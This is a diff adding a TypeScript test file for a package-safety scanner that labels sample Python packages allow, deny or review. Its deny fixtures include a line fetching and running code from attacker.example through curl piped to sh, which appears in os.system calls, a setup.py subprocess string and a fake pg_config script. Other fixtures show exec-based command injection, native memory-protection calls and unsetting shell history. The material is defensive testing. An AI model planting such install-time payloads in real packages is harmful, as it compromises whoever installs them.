@@ -1,0 +1,138 @@
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, test } from 'node:test';
+import type { Verdict } from '../../../src/core/decision.ts';
+import { decidedOn } from './decided.ts';
+import { command, type Files } from './sample.ts';
+
+const scratch = mkdtempSync(join(tmpdir(), 'loadlock-packages-as-met-'));
+after(() => rmSync(scratch, { recursive: true, force: true }));
+
+const run = `os.system("${command}")`;
+const fetched = 'curl -s http://attacker.example/x | sh';
+const end = 'from setuptools import setup\nsetup(name="pkg", version="1", packages=["pkg"])\n';
+const asks = (names: string): string =>
+  `import subprocess, sys\ndef run(commands, args):\n    for one in commands:\n        try:\n            subprocess.Popen([one] + args)\n            break\n        except OSError:\n            continue\ndef revision():\n    tools = ["git"]\n    if sys.platform == "win32":\n        tools = ${names}\n    run(tools, ["rev-parse", "HEAD"])\nrevision()\n`;
+const generates = (names: string): string =>
+  `import shapes\ndef make(names, extra):\n    rest = ""\n    if extra:\n        rest = ", *, " + ", ".join(extra)\n    lines = [f"def __init__(self, {names}{rest}):"]\n    lines.append("    self.a = a")\n    space = {}\n    exec(compile("\\n".join(lines), "<made>", "exec"), space)\n    return space["__init__"]\nmake("${names}", shapes.fields())\n`;
+
+/** Habits of packages as they are released, each with the closest thing that harms: what is decided of either. */
+const cases: readonly (readonly [string, string | Files, Verdict])[] = [
+  ['git by either of its names', asks('["git.cmd", "git.exe"]'), 'allow'],
+  ['git, or something else on another system', asks('["git.cmd", "./hook.sh"]'), 'deny'],
+  [
+    'a list that another system has, the last word of which harms',
+    `import os, sys\ntools = ["true"]\nif sys.platform == "win32":\n    tools = ["true", "${command}"]\nfor one in tools:\n    os.system(one)\n`,
+    'deny',
+  ],
+  ['a function that is generated with arguments it may lack', generates('a, b'), 'review'],
+  ['one of which a default runs something', generates(`a=__import__('os').system('${command}')`), 'deny'],
+  [
+    'a text that is set after an empty one, and compiled',
+    'import shapes\nclass Router:\n    def __init__(self):\n        self.text = ""\n    def compile(self, nodes):\n        lines = ["def find(path):"]\n        for node in nodes:\n            lines.append(node.text())\n        self.text = "\\n".join(lines)\n        space = {}\n        exec(compile(self.text, "<made>", "exec"), space)\n        return space["find"]\nRouter().compile(shapes.nodes())\n',
+    'review',
+  ],
+  [
+    'a program that is set after an empty one, and compiled',
+    `class Router:\n    def __init__(self):\n        self.text = ""\n    def compile(self):\n        self.text = "import os; ${run.replaceAll('"', "'")}"\n        exec(compile(self.text, "<made>", "exec"))\nRouter().compile()\n`,
+    'deny',
+  ],
+  [
+    'a command that is put into a table of commands',
+    'import shutil\nimport typer\napp = typer.Typer()\ndef make():\n    def remove(path: str):\n        shutil.rmtree(path)\n    return remove\napp.command("rm")(make())\n',
+    'allow',
+  ],
+  [
+    'the program of such commands is called',
+    `import os\nimport typer\napp = typer.Typer()\ndef go():\n    os.system("${fetched}")\napp.command("go")(go)\napp(standalone_mode=False)\n`,
+    'deny',
+  ],
+  [
+    'a table of commands of its own, that calls what is put into it',
+    `import os\nimport typer\nclass App(typer.Typer):\n    def command(self, name):\n        def wrap(function):\n            function()\n            return function\n        return wrap\napp = App()\napp.command("go")(lambda: os.system("${command}"))\n`,
+    'deny',
+  ],
+  [
+    'what makes the command does it',
+    `import os\nimport click\ncli = click.Group()\ndef make():\n    ${run}\n    return print\ncli.command("go")(make())\n`,
+    'deny',
+  ],
+  ['a client that connects when it is asked', 'import redis\nclient = redis.Redis()\n', 'allow'],
+  [
+    'a client of a server of somebody else',
+    'import redis\nclient = redis.Redis(host="198.51.100.7")\n',
+    'deny',
+  ],
+  [
+    'a client of a server that the environment names',
+    'import os, redis\nclient = redis.from_url(os.environ["X"])\n',
+    'deny',
+  ],
+  ['a library of Windows by its name', 'import ctypes\nnative = ctypes.WinDLL("ntdll")\n', 'review'],
+  [
+    'memory in which code is put, by the functions below',
+    'import ctypes\nnative = ctypes.WinDLL("ntdll")\nnative.NtProtectVirtualMemory(-1, 0, 0, 64, 0)\n',
+    'deny',
+  ],
+  [
+    'where headers lie, asked of a program that was looked for',
+    {
+      'setup.py': `import os, subprocess\ntool = os.environ.get("PG_CONFIG")\nsubprocess.run([tool, "--libdir"])\n${end}`,
+      'pkg/__init__.py': '',
+    },
+    'review',
+  ],
+  [
+    'a program of the package is asked, whatever it is called',
+    {
+      'setup.py': `import subprocess\nsubprocess.run(["tools/pg_config", "--libdir"])\n${end}`,
+      'pkg/__init__.py': '',
+      'tools/pg_config': `#!/bin/sh\n${fetched}\n`,
+    },
+    'deny',
+  ],
+  [
+    'where a library lies, asked of what installed it',
+    {
+      'setup.py': `import subprocess\nsubprocess.getoutput("brew --prefix openssl")\nsubprocess.getoutput("pg_config --includedir")\n${end}`,
+      'pkg/__init__.py': '',
+    },
+    'allow',
+  ],
+  [
+    'and something more is asked',
+    {
+      'setup.py': `import subprocess\nsubprocess.getoutput("pg_config --includedir; ${fetched}")\n${end}`,
+      'pkg/__init__.py': '',
+    },
+    'deny',
+  ],
+  [
+    'a version file below the first half of the own path',
+    {
+      'setup.py': `import os\nhere = os.path.split(__file__)[0]\nwith open(os.path.join(here, "pkg/version.py")) as file:\n    exec(compile(file.read(), "version", "exec"))\n${end}`,
+      'pkg/__init__.py': '',
+      'pkg/version.py': '__version__ = "1"\n',
+    },
+    'allow',
+  ],
+  [
+    'one that harms',
+    {
+      'setup.py': `import os\nhere = os.path.split(__file__)[0]\nwith open(os.path.join(here, "pkg/version.py")) as file:\n    exec(compile(file.read(), "version", "exec"))\n${end}`,
+      'pkg/__init__.py': '',
+      'pkg/version.py': `import os\n${run}\n`,
+    },
+    'deny',
+  ],
+  ['a prompt of its own', { 'prompt.sh': "PS1='$'\nunset PROMPT_COMMAND\n" }, 'allow'],
+  ['no record of what is typed', { 'prompt.sh': 'unset HISTFILE\n' }, 'deny'],
+];
+
+for (const [name, files, expected] of cases)
+  test(`${expected}: ${name}`, async () => {
+    const { verdict, findings } = await decidedOn(files, join(scratch, name.replace(/\W+/g, '-')));
+    assert.equal(verdict, expected, findings.join('\n'));
+  });
